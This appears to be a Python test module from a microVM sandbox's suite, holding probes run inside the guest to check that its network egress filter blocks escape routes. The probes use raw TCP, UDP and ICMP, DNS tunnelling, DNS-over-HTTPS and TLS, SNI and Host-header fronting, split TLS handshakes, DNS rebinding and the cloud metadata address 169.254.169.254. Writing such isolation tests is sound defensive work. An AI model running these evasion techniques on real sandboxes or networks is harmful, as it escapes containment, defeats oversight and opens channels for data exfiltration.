"""Attacks straight from the guest, and those that any way out may carry. This runs in the guest."""

from __future__ import annotations

import socket
import struct
import urllib.error
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from functools import partial

from tests.microvm.probes.tools import (
    SECONDS,
    WHERE,
    an_attack,
    client_hello,
    datagram,
    direct,
    every,
    fetch,
    get,
    mark,
    proxied,
    query,
    raw,
    record,
    secure,
    tunnel,
)

__all__ = ["permitted"]


def _dns(attack: str, server: str, kind: int, *, tcp: bool = False) -> str:
    asked = query(f"{mark(attack)}.{WHERE['denied']}", kind)
    if tcp:
        return direct(server, 53, struct.pack(">H", len(asked)) + asked)
    return datagram(server, 53, asked)


@an_attack()
def permitted() -> str:
    return fetch("permitted", WHERE["allowed"])


@an_attack()
def permittedtls() -> str:
    return secure(WHERE["allowed"], client_hello("permittedtls", WHERE["allowed"]))


@an_attack()
def tcpraw() -> str:
    ports = (22, 80, 443, 9999)
    return every([partial(direct, WHERE["denied_ip"], port, get("tcpraw", "x")) for port in ports])


@an_attack()
def tcpallowed() -> str:
    ports = (22, 9999)
    return every([partial(direct, WHERE["allowed_ip"], port, get("tcpallowed", "x")) for port in ports])


@an_attack()
def tcpprivate() -> str:
    return direct(WHERE["private_ip"], 80, get("tcpprivate", "x"))


@an_attack()
def udp() -> str:
    return datagram(WHERE["denied_ip"], 9999, mark("udp").encode())


@an_attack()
def quic() -> str:
    first = b"\xc3\x00\x00\x00\x01\x08" + bytes(8) + b"\x00\x00\x44\x00" + mark("quic").encode()
    both = (WHERE["denied_ip"], WHERE["allowed_ip"])
    return every([partial(datagram, to, 443, first.ljust(1200, b"\0")) for to in both])


@an_attack()
def icmp() -> str:
    data = mark("icmp").encode()
    head = struct.pack(">BBHHH", 8, 0, 0, 7, 1)
    words = head + data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    packet = struct.pack(">BBHHH", 8, 0, ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF, 7, 1) + data
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as to:
        to.settimeout(SECONDS)
        to.sendto(packet, (WHERE["denied_ip"], 0))
        answer, (source, _) = to.recvfrom(2048)
        return f"type {answer[20]} of {source}"


@an_attack()
def dnsudp() -> str:
    return _dns("dnsudp", WHERE["gateway"], 1)


@an_attack()
def dnstcp() -> str:
    return _dns("dnstcp", WHERE["gateway"], 1, tcp=True)


@an_attack()
def dnstxt() -> str:
    return _dns("dnstxt", WHERE["gateway"], 16)


@an_attack()
def dnsother() -> str:
    both = (partial(_dns, "dnsother", WHERE["resolver"], 16), partial(_dns, "dnsother", WHERE["resolver"], 1, tcp=True))
    return every(list(both))


@an_attack()
def dnslibc() -> str:
    return str(socket.getaddrinfo(f"{mark('dnslibc')}.{WHERE['denied']}", 80))


@an_attack()
def doh() -> str:
    name = f"{mark('doh')}.{WHERE['denied']}"
    return secure(name, client_hello("doh", name))


@an_attack()
def dohdirect() -> str:
    return direct(WHERE["resolver"], 443, client_hello("dohdirect", "dns.example"))


@an_attack()
def dot() -> str:
    hello = client_hello("dot", "dns.example")
    aims: list[Callable[[], str]] = [partial(direct, WHERE["resolver"], 853, hello)]
    if proxied():
        aims.append(partial(tunnel, f"{WHERE['allowed']}:853", hello))
    return every(aims)


@an_attack()
def ipv6() -> str:
    aim = WHERE["ipv6"]
    return every([partial(direct, aim, 80, get("ipv6", "x")), partial(datagram, aim, 53, mark("ipv6").encode())])


@an_attack()
def hostservice() -> str:
    return direct(WHERE["host"], int(WHERE["service"]), get("hostservice", "x"))


@an_attack()
def gateway() -> str:
    ports = (22, 80, int(WHERE["service"]))
    return every([partial(direct, WHERE["gateway"], port, get("gateway", "x")) for port in ports])


@an_attack()
def metadata() -> str:
    return direct("169.254.169.254", 80, get("metadata", "169.254.169.254"))


@an_attack()
def snifronting() -> str:
    return secure(WHERE["allowed"], client_hello("snifronting", WHERE["denied"]))


@an_attack()
def nosni() -> str:
    return secure(WHERE["allowed"], client_hello("nosni", None))


@an_attack()
def ech() -> str:
    return secure(WHERE["allowed"], client_hello("ech", WHERE["allowed"], ech=True))


@an_attack()
def splithello() -> str:
    """The wrong name, where one segment, or one record, does not show it."""
    hello = client_hello("splithello", WHERE["denied"])
    inside = hello[5:]
    step = 40
    segments = [hello[place : place + step] for place in range(0, len(hello), step)]
    records = [record(inside[place : place + step]) for place in range(0, len(inside), step)]
    return every([partial(secure, WHERE["allowed"], *segments), partial(secure, WHERE["allowed"], *records)])


@an_attack()
def nottls() -> str:
    """Something that is neither TLS nor HTTP, to a port that is permitted for those."""
    return secure(WHERE["allowed"], b"SSH-2.0-" + mark("nottls").encode() + b"\r\n")


@an_attack()
def hostfronting() -> str:
    request = f"Host: {WHERE['denied']}\r\nX-Mark: {mark('hostfronting')}\r\nConnection: close\r\n\r\n"
    if not proxied():
        return direct(WHERE["allowed"], 80, f"GET / HTTP/1.1\r\n{request}".encode())
    absolute = f"GET http://{WHERE['allowed']}/ HTTP/1.1\r\n{request}".encode()
    relative = f"GET / HTTP/1.1\r\n{request}".encode()
    return every([partial(raw, absolute), partial(tunnel, f"{WHERE['allowed']}:80", relative)])


@an_attack()
def redirect() -> str:
    address = f"http://{WHERE['allowed']}/redirect/redirect"
    proxies = {"http": f"http://{WHERE['proxy']}"} if proxied() else {}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try:
        with opener.open(address, timeout=SECONDS) as answer:
            return str(answer.read(100).decode(errors="replace"))
    except urllib.error.HTTPError as error:
        error.close()
        return ""


@an_attack()
def mixedname() -> str:
    """A name with one address that is permitted and one that is not."""
    return every([partial(fetch, "mixedname", "mixed.example")] * 4)


@an_attack()
def rebinding() -> str:
    """A name whose address changes with each look-up."""
    answers = []
    for _ in range(4):
        with suppress(OSError):
            answers.append(fetch("rebinding", "rebind.example"))
    return " ".join(filter(None, answers))[:200]
